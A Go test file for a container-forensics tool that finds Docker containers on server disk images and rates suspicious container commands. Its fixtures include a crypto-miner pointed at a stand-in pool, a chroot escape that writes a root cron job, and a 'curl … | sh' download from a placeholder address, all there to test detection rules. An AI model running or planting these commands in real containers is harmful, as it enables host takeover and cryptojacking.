package forensics_test

import (
	"archive/tar"
	"compress/gzip"
	"io"
	"os"
	"slices"
	"strings"
	"testing"

	"icecore/fixtures/servers"
	"icecore/forensics"
	"icecore/forensics/detect"
	"icecore/forensics/model"
)

// recorded gives what real engines left, see host/container/testdata/engines.sh.
func recorded(t *testing.T) servers.Tree {
	t.Helper()
	f, err := os.Open("host/container/testdata/engines.tar.gz")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	z, err := gzip.NewReader(f)
	if err != nil {
		t.Fatal(err)
	}
	out := servers.Tree{}
	for r := tar.NewReader(z); ; {
		h, err := r.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		if h.Typeflag == tar.TypeDir {
			out["/srv/engines/"+h.Name] = ""
		}
		if h.Typeflag != tar.TypeReg || strings.HasPrefix(h.Name, "expect/") {
			continue
		}
		b, err := io.ReadAll(r)
		if err != nil {
			t.Fatal(err)
		}
		out["/srv/engines/"+h.Name] = string(b)
	}
}

// containersOf gives the records of containers by engine and name.
func containersOf(a *forensics.Analysis) map[string]*model.Record {
	out := make(map[string]*model.Record)
	for i := range a.Records {
		if r := &a.Records[i]; r.Kind == model.ContainerAutostart || r.Kind == model.ContainerManual {
			out[r.Get("engine")+" "+r.Get("container")+r.Get("container_id")[:4]] = r
		}
	}
	return out
}

// TestServerEngines: what real engines left of their containers is found in an unusual
// place, each container with the host of its root; and without any it is quiet.
func TestServerEngines(t *testing.T) {
	a := served(t, made(t, servers.Volume{Tree: servers.Debian().With(recorded(t))}))
	got := containersOf(a)
	if len(got) != 20 {
		t.Errorf("%d containers", len(got))
	}
	hosts := make(map[string]model.Host)
	for _, h := range a.Hosts {
		hosts[h.ID] = h
	}
	for name, r := range got {
		h := hosts[r.Get("root")]
		if h.Kind != "container" || h.OSID != "tiny" || h.Name != r.Get("container") || h.Image != r.Get("image") {
			t.Errorf("%s: its host is %q: %+v", name, r.Get("root"), h)
		}
		if r.Source.Volume == "" || r.Source.Inode == 0 || r.Source.Host != "h1" {
			t.Errorf("%s: %+v", name, r.Source)
		}
	}
	for i := range a.Findings {
		if f := &a.Findings[i]; f.Level > detect.Low {
			t.Errorf("%s %s at %s: %s", f.Level, f.Rule, f.Source.InHost(), f.Title)
		}
	}
	for _, g := range a.Coverage.Gaps {
		if strings.HasPrefix(g.Source.Path, "/srv/engines") {
			t.Errorf("gap: %s: %s", g.WhatText, g.WhyText)
		}
	}
}

// docker gives the state of Docker with one container.
func docker(config, host string) servers.Tree {
	const id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	d := "/data/dk/containers/" + id + "/"
	return servers.Tree{d + "config.v2.json": config, d + "hostconfig.json": host}
}

// TestServerContainerCommands: what a container runs is judged, and each honest twin is
// quiet.
func TestServerContainerCommands(t *testing.T) {
	for _, tt := range []struct {
		name, config, host string
		rule               string
		level              detect.Level
	}{
		{"miner", `{"Path":"/xmrig","Args":["-o","stratum+tcp://pool.example:3333","-u","x"]}`, `{"RestartPolicy":{"Name":"always"}}`, "act_miner_args", detect.Critical},
		{"miner by its environment", `{"Path":"/run.sh","Config":{"Env":["POOL=stratum+tcp://pool.example:3333"]}}`, `{}`, "act_miner_args", detect.Critical},
		{"way out with a cron job", `{"Path":"chroot","Args":["/mnt","sh","-c","echo '* * * * * root /x' > /etc/cron.d/x"]}`, `{"Binds":["/:/mnt"]}`, "act_cron_write", detect.High},
		{"the root directory entered", `{"Path":"chroot","Args":["/mnt","sh"]}`, `{"Binds":["/:/mnt"]}`, "container_host_root", detect.Medium},
		{"download", `{"Path":"sh","Args":["-c","curl http://198.51.100.1/i | sh"]}`, `{}`, "act_pipe_to_shell", detect.Medium},
		{"download with privileges", `{"Path":"sh","Args":["-c","curl http://198.51.100.1/i | sh"]}`, `{"Privileged":true}`, "act_pipe_to_shell", detect.High},
		{"agent", `{"Path":"/agent"}`, `{"Privileged":true,"PidMode":"host","Binds":["/:/host:ro","/var/run/docker.sock:/var/run/docker.sock"]}`, "container_privileged", detect.Low},
		{"web server", `{"Path":"nginx","Args":["-g","daemon off;"],"Config":{"Env":["DB_HOST=db:5432","DB_USER=web"]}}`, `{"RestartPolicy":{"Name":"always"},"NetworkMode":"bridge"}`, "", detect.None},
		{"entrypoint of an image", `{"Path":"docker-entrypoint.sh","Args":["postgres"]}`, `{"Binds":["/srv/db:/var/lib/postgresql"]}`, "", detect.None},
	} {
		a := served(t, made(t, servers.Volume{Tree: servers.Debian().With(docker(tt.config, tt.host))}))
		if len(containersOf(a)) != 1 {
			t.Errorf("%s: no record", tt.name)
		}
		best, rules := detect.None, []string{}
		for i := range a.Findings {
			if f := &a.Findings[i]; strings.Contains(f.Source.Path, "/data/dk/") {
				best = max(best, f.Level)
				rules = append(rules, f.Rule)
			}
		}
		if best != tt.level || tt.rule != "" && !slices.Contains(rules, tt.rule) {
			t.Errorf("%s: %s, %v, want %s, %s", tt.name, best, rules, tt.level, tt.rule)
		}
	}
}

// TestServerEntrypoint: the script that a container starts is read in the layer that has
// it; a script of the same path on the server is another one.
func TestServerEntrypoint(t *testing.T) {
	const id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	state := docker(`{"Driver":"overlay2","Path":"/run.sh"}`, `{"RestartPolicy":{"Name":"always"}}`).With(servers.Tree{
		"/data/dk/image/overlay2/layerdb/mounts/" + id + "/mount-id": "top",
		"/data/dk/image/overlay2/layerdb/mounts/" + id + "/parent":   "sha256:low",
		"/data/dk/image/overlay2/layerdb/sha256/low/cache-id":        "low",
		"/data/dk/overlay2/top/diff/tmp/":                            "",
		"/data/dk/overlay2/low/diff/etc/os-release":                  "ID=x\n",
	})
	const miner = "#!/bin/sh\n/usr/bin/x -o stratum+tcp://pool.example:3333 -u y\n"
	for _, tt := range []struct {
		name, at string
		found    bool
	}{
		{"in the image", "/data/dk/overlay2/low/diff/run.sh", true},
		{"in the upper layer", "/data/dk/overlay2/top/diff/run.sh", true},
		{"on the server, where nothing starts it", "/run.sh", false},
	} {
		a := served(t, made(t, servers.Volume{Tree: servers.Debian().With(state, servers.Tree{tt.at: miner})}))
		found := false
		for i := range a.Findings {
			f := &a.Findings[i]
			found = found || f.Rule == "act_miner_args" && f.Source.Path == tt.at && f.Level == detect.Critical
		}
		if found != tt.found {
			t.Errorf("%s: found is %t: %v", tt.name, found, claims(a))
		}
	}
}

// TestServerEngineVolumes: the state of an engine may lie on a volume of its own, behind a
// link, below a bind mount, or on a volume that the server does not mount.
func TestServerEngineVolumes(t *testing.T) {
	const id = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef"
	state := servers.Tree{
		"/containers/" + id + "/config.v2.json":              `{"Name":"/web","Driver":"overlay2","Path":"/bin/x"}`,
		"/image/overlay2/layerdb/mounts/" + id + "/mount-id": "top",
		"/image/overlay2/layerdb/mounts/" + id + "/parent":   "sha256:low",
		"/image/overlay2/layerdb/sha256/low/cache-id":        "low",
		"/overlay2/top/diff/etc/new":                         "",
		"/overlay2/low/diff/etc/os-release":                  "ID=inner\n",
		"/overlay2/low/diff/bin/x":                           "#!/bin/sh\n",
	}
	for name, volumes := range map[string][]servers.Volume{
		"mounted": {
			{Tree: servers.Debian().With(servers.Tree{"/etc/fstab": "LABEL=docker /var/lib/docker ext4 defaults 0 2\n", "/var/lib/docker/": ""})},
			{Tree: state, Label: "docker"},
		},
		"mounted, without the mount point": {
			{Tree: servers.Debian().With(servers.Tree{"/etc/fstab": "LABEL=docker /mnt/none/docker ext4 defaults 0 2\n"})},
			{Tree: state, Label: "docker"},
		},
		"mounted above": {
			{Tree: servers.Debian().With(servers.Tree{"/etc/fstab": "LABEL=data /srv ext4 defaults 0 2\n"})},
			{Tree: state.Below("/a/docker"), Label: "data"},
		},
		"not mounted":   {{Tree: servers.Debian()}, {Tree: state.Below("/old/docker"), Label: "x"}},
		"behind a link": {{Tree: servers.Debian().With(state.Below("/var/lib/docker")).Link("/var/lib/docker", "/data/docker", "/data/docker")}},
	} {
		a := served(t, made(t, volumes...))
		got := containersOf(a)
		if len(got) != 1 {
			t.Errorf("%s: %d containers\n%s", name, len(got), gaps(a))
			continue
		}
		for _, r := range got {
			i := slices.IndexFunc(a.Hosts, func(h model.Host) bool { return h.ID == r.Get("root") })
			if i < 0 || a.Hosts[i].OSID != "inner" || a.Hosts[i].Name != "web" || len(r.List("layers")) != 2 || len(r.List("programs")) != 1 || !strings.HasSuffix(r.List("programs")[0], "/low/diff/bin/x") {
				t.Errorf("%s: host %d: %v", name, i, r.Fields)
			}
		}
	}
}
